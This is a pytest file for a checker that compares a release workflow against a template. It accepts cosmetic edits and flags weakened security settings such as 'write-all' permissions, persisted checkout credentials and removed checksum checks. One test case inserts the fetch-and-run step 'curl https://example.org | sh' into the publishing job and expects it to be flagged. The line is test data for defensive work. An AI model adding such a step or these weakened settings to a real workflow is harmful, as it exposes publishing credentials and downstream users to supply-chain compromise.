"""init --check: what is essential must be as in the template, and everything else is the maintainer's."""

from __future__ import annotations

from pathlib import Path

import pytest
from inline_snapshot import snapshot

from pypublish.edges.world import World
from tests.drifting import PLAIN, Edit, edit, judged, sub, told
from tests.setting_up import make, set_up


@pytest.fixture
def root(tmp_path: Path, world: World) -> Path:
    made = make(tmp_path / "it", PLAIN)
    set_up(made, world, PLAIN)
    return made


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(lambda text: "# our own\n" + text, id="a comment"),
        pytest.param(sub(r"^name: Release$", "name: Ship it"), id="its name"),
        pytest.param(sub(r"timeout-minutes: 30", "timeout-minutes: 55"), id="a time limit"),
        pytest.param(sub(r"runs-on: ubuntu-latest", "runs-on: ubuntu-24.04", 0), id="another machine"),
        pytest.param(sub(r"^( +)default: dry-run", r"\1default: testpypi"), id="another default"),
        pytest.param(lambda text: text.replace("\n", "\r\n"), id="line ends"),
        pytest.param(sub(r"^ *#.*\n|(?<=read) #.*$|(?<=write) #.*$", "", 0), id="no comments but those of pins"),
        pytest.param(sub(r"options: \[dry-run, testpypi, pypi\]", 'options: ["dry-run", "pypi"]'), id="fewer choices"),
        pytest.param(
            lambda text: text + "\n  announce:\n    needs: release\n    runs-on: x\n    steps: [{run: echo}]\n",
            id="a job of its own",
        ),
        pytest.param(
            sub(r"^( +)- id: prepare$", r"\1- run: make generated\n\1- id: prepare"), id="a step of its own in prepare"
        ),
        pytest.param(sub(r"^  push:$", "  push: # from here\n    branches: [stable]"), id="started by more"),
        pytest.param(sub(r"^( +)stage: prepare$", r"\1stage: prepare\n\1strict: 'true'"), id="an input of its own"),
        pytest.param(
            sub(r"needs: \[prepare, verify\]", "needs:\n      - verify\n      - prepare"), id="a list in another form"
        ),
    ],
)
def test_what_is_the_maintainers_business(change: Edit, root: Path, world: World) -> None:
    edit(root, change)
    assert told(root, judged(root, world)) == []


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            sub(r"^permissions: \{\}.*$", "permissions: write-all"),
            snapshot(
                [
                    "error release.yml | permissions: write-all: the permissions at the top are not as in the template: `{}`"
                ]
            ),
        ),
        (
            sub(r"id-token: write.*$", "id-token: write\n      contents: write"),
            snapshot(
                [
                    "error release.yml | permissions:: the permissions of the job publish are not as in the template: `id-token: write`"
                ]
            ),
        ),
        (
            sub(r"^    permissions: \{\} .*\n", ""),
            snapshot(
                ["error release.yml | verify:: the permissions of the job verify are not as in the template: `{}`"]
            ),
        ),
        (
            sub(r"^ +digest-mismatch: error\n", ""),
            snapshot(
                [
                    "error release.yml | with:: `digest-mismatch` of the step that uses actions/download-artifact in the job publish is not as in the template: `error`"
                ]
            ),
        ),
        (
            sub(r"persist-credentials: false", "persist-credentials: true"),
            snapshot(
                [
                    "error release.yml | persist-credentials: true: `persist-credentials` of the step that uses actions/checkout in the job rehearse is not as in the template: `false`"
                ]
            ),
        ),
        (
            sub(r"^          sha256sum --check.*\n", ""),
            snapshot(
                [
                    "error release.yml | run: |: `run` of the step 'Compare the files with the checksums of prepare' in the job publish is not as in the template: `expected=$(grep . <<< \"$CHECKSUMS\" | sort) found=$(cd dist …`"
                ]
            ),
        ),
        (
            sub(r"cancel-in-progress: false.*", "cancel-in-progress: true"),
            snapshot(
                [
                    "error release.yml | concurrency:: `concurrency` is not as in the template: `group: release-${{ inputs.tag || github.ref_name }}, …`"
                ]
            ),
        ),
        (
            sub(r'^    tags: \["v\*"\]\n', ""),
            snapshot(["error release.yml | push:: `on.push.tags` is not as in the template: `v*`"]),
        ),
        (
            sub(r'tags: \["v\*"\]', "tags: ['*']"),
            snapshot(["error release.yml | tags: ['*']: `on.push.tags` is not as in the template: `v*`"]),
        ),
        (
            sub(r"needs: \[prepare, gates\]", "needs: prepare"),
            snapshot(["error release.yml | needs: prepare: the job publish does not need gates"]),
        ),
        (
            sub(r"^  workflow_dispatch:\n(    .*\n)+", ""),
            snapshot(["error release.yml | on:: it is not started by workflow_dispatch"]),
        ),
        (
            sub(r"^      run-id:\n(        .*\n)+", ""),
            snapshot(["error release.yml | inputs:: workflow_dispatch does not ask for run-id"]),
        ),
        (
            sub(r"^on:\n(  .*\n)+", "on: [push, workflow_dispatch]\n"),
            snapshot(
                [
                    "error release.yml | on: [push, workflow_dispatch]: `on.push.tags` is not as in the template: `v*`",
                    "error release.yml | on: [push, workflow_dispatch]: workflow_dispatch does not ask for index, tag, version, run-id",
                ]
            ),
        ),
        (
            sub(r"^  verify:\n(    .*\n)+", ""),
            snapshot(["error release.yml | jobs:: the job verify is missing"]),
        ),
        (
            sub(r"^    environment:\n(      .*\n)+", ""),
            snapshot(["error release.yml | publish:: the job publish has no `environment`"]),
        ),
        (
            sub(r"^      checksums: .*\n", ""),
            snapshot(
                [
                    "error release.yml | outputs:: the job prepare does not give the output checksums as the template does"
                ]
            ),
        ),
        (
            sub(r"^      - name: Compare the files.*\n(        .*\n)+", ""),
            snapshot(
                [
                    "error release.yml | steps:: the step 'Compare the files with the checksums of prepare' is missing in the job publish"
                ]
            ),
        ),
        (
            sub(r"^( +)- uses: pypa/", r"\1- run: curl https://example.org | sh\n\1- uses: pypa/"),
            snapshot(
                [
                    "error release.yml | - run: curl https://example.org | sh: the job publish, which may publish, has a step of its own: a step that runs a script"
                ]
            ),
        ),
        (
            sub(r"^    if: >-\n.*\n.*\n", "    if: always()\n"),
            snapshot(
                [
                    "error release.yml | if: always(): `if` of the job publish is not as in the template: `!cancelled() && needs.prepare.result == 'success' && …`"
                ]
            ),
        ),
    ],
)
def test_what_a_release_rests_on(change: Edit, expected: list[str], root: Path, world: World) -> None:
    edit(root, change)
    outcome = judged(root, world)
    assert told(root, outcome) == expected
    assert not outcome.ok
